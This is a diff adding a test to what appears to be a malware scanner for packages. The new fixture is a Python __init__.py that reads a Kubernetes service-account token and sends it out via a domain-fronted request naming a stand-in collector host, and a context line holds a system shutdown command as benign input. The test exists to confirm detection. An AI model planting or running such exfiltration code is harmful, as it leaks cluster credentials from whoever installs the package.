@@ -152,3 +152,16 @@ test('install-time sabotage, callbacks to interaction services and staged binari
   const { score: admin } = await scan({ 'pkg/admin.py': 'import os\ndef stop():\n    os.system("shutdown -h now")\n' });
   assert.notEqual(admin.verdict, 'malicious', admin.reason);
 });
+
+test('a Host header that names another host (domain fronting) is the destination, and hidden', async () => {
+  const { out, score } = await scan({
+    'pkg/__init__.py': [
+      'from urllib import request',
+      "tok = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
+      "r = request.Request('https://pypi.org/x?d=' + tok, headers={'Host': 'collector.cdn.example.invalid'})",
+      'request.urlopen(r)',
+    ].join('\n'),
+  });
+  assert.equal(score.verdict, 'malicious', score.reason);
+  assert.ok(out.findings.some((f) => f.message.includes('collector.cdn.example.invalid')));
+});
